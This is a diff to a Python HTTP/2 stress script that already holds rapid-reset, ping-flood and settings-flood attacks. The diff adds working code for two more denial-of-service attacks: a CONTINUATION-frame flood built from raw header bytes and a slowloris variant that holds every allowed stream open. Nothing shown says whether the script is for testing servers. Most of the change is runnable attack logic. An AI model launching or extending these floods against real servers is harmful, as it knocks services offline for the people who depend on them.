@@ -17,6 +17,11 @@ Attacks:
   rapid_reset     open a stream and reset it at once (CVE-2023-44487).
   ping_flood      PING frames without reading the acknowledgements.
   settings_flood  SETTINGS frames without reading the acknowledgements.
+  continuation_flood
+                  a HEADERS frame without END_HEADERS, then CONTINUATION
+                  frames of header bytes that never end (the 2024 class).
+  slowloris       open as many streams as the server allows and send
+                  nothing more on them until --seconds pass.
 """
 
 import argparse
@@ -32,6 +37,8 @@ import h2.connection
 import h2.events
 
 WINDOW_UPDATE = 0x8
+CONTINUATION = 0x9
+HEADERS = 0x1
 PING = 0x6
 SETTINGS = 0x4
 
@@ -50,7 +57,7 @@ def main():
     p.add_argument("--key", required=True)
     p.add_argument("--attack", required=True,
                    choices=["made_you_reset", "zero_window", "rapid_reset", "ping_flood",
-                            "settings_flood"])
+                            "settings_flood", "continuation_flood", "slowloris"])
     p.add_argument("--count", type=int, default=5000)
     p.add_argument("--seconds", type=float, default=20.0)
     a = p.parse_args()
@@ -139,6 +146,40 @@ def main():
             time.sleep(0.001)
         return True
 
+    if a.attack == "slowloris":
+        # Streams opened and left waiting for a body that never comes.
+        while time.monotonic() < deadline and not out["goaway"] and not out["closed"]:
+            if conn.open_outbound_streams < conn.remote_settings.max_concurrent_streams \
+                    and out["sent"] < a.count:
+                sid = conn.get_next_available_stream_id()
+                conn.send_headers(sid, headers, end_stream=False)
+                if not send(conn.data_to_send()):
+                    break
+                out["sent"] += 1
+            else:
+                time.sleep(0.05)
+            if not pump():
+                break
+        out["open_streams"] = conn.open_outbound_streams
+        json.dump(out, sys.stdout)
+        print()
+        return
+    if a.attack == "continuation_flood":
+        # Literal header field, new name: a name and value of 100 bytes
+        # each, over and over, in CONTINUATION frames without END_HEADERS.
+        field = b"\x00" + bytes([100]) + b"x" * 100 + bytes([100]) + b"y" * 100
+        block = field * 70
+        data = frame(HEADERS, 0x0, 1, b"")
+        if send(data):
+            for i in range(a.count):
+                if out["goaway"] or out["closed"] or time.monotonic() > deadline:
+                    break
+                if not send(frame(CONTINUATION, 0x0, 1, block)):
+                    break
+                out["sent"] += 1
+                if not pump():
+                    break
+        a.count = 0
     stream_id = 1
     for i in range(a.count):
         if out["goaway"] or out["closed"] or time.monotonic() > deadline:
